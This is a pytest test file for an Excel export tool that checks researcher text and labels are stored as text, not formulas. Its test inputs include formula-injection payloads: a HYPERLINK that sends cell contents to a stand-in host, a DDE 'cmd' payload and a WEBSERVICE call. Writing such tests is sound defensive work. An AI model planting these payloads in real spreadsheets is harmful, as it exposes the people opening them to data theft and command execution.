"""Text typed by the researcher or found in the data stays text in every workbook a CBS checker opens."""

from __future__ import annotations

import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

import cbs_export_lab as cel
from cbs_export_lab.exportmap import FORM_NAME

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+1+1",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
    "=cmd|' /C calc'!A0",
]


def cells(book) -> list:
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_all_text(book, expected: list[str]) -> None:
    found = cells(book)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a formula in the workbook"
    strings = {c.value for c in found if isinstance(c.value, str)}
    for text in expected:
        stored = [c for c in found if c.value == text]
        assert stored and all(c.data_type == "s" for c in stored), text
    assert strings


@pytest.fixture
def hostile_table() -> pd.DataFrame:
    index = pd.Index(ATTACKS[:4], name="=label")
    return pd.DataFrame({"=A1*2": [30, 40, 50, 60], "-count": [-11, 12, 13, 14]}, index=index)


def test_table_sheet_keeps_labels_titles_and_descriptions_as_text(basket, hostile_table):
    item = basket.add(hostile_table, ATTACKS[0], description=ATTACKS[3], explanation=ATTACKS[6])
    book = load_workbook(basket.folder / item.files[0])
    assert_all_text(book, [ATTACKS[0], ATTACKS[3], *ATTACKS[:4], "=label", "=A1*2", "-count"])
    negative = [c for c in cells(book) if c.value == -11]
    assert negative and negative[0].data_type == "n"


def test_form_and_sheets_in_the_zip_hold_no_formula(basket, exportmap, hostile_table):
    item = basket.add(hostile_table, "=1+2", description="@risk", explanation="-geen risico")
    basket.set_explanation(item.id, '=WEBSERVICE("http://x")')
    result = cel.prepare_export(basket, exportmap, mode="vooraf", project="+31")
    assert result.zips
    with zipfile.ZipFile(result.zips[0]) as zf:
        books = {n: load_workbook(io.BytesIO(zf.read(n))) for n in zf.namelist() if n.endswith(".xlsx")}
    assert FORM_NAME in books
    assert_all_text(books[FORM_NAME], ["=1+2", "@risk", '=WEBSERVICE("http://x")'])
    for name, book in books.items():
        assert not [c for c in cells(book) if c.data_type == "f"], name


def test_model_sheet_keeps_hostile_titles_as_text(basket, persons):
    import statsmodels.formula.api as smf

    res = smf.ols("inkomen ~ leeftijd", data=persons).fit()
    item = basket.add(res, "=2*3", description="+model")
    book = load_workbook(basket.folder / next(f for f in item.files if f.endswith(".xlsx")))
    assert_all_text(book, ["=2*3", "+model"])


def test_plain_text_and_numbers_are_unchanged():
    from openpyxl import Workbook

    from cbs_export_lab.excel import as_text

    wb = Workbook()
    wb.active.append(["gewoon", -5, 2.5, "a=b", "=1"])
    as_text(wb)
    kinds = [c.data_type for c in wb.active[1]]
    assert kinds == ["s", "n", "n", "s", "s"] and not wb.active["A1"].quotePrefix and wb.active["E1"].quotePrefix
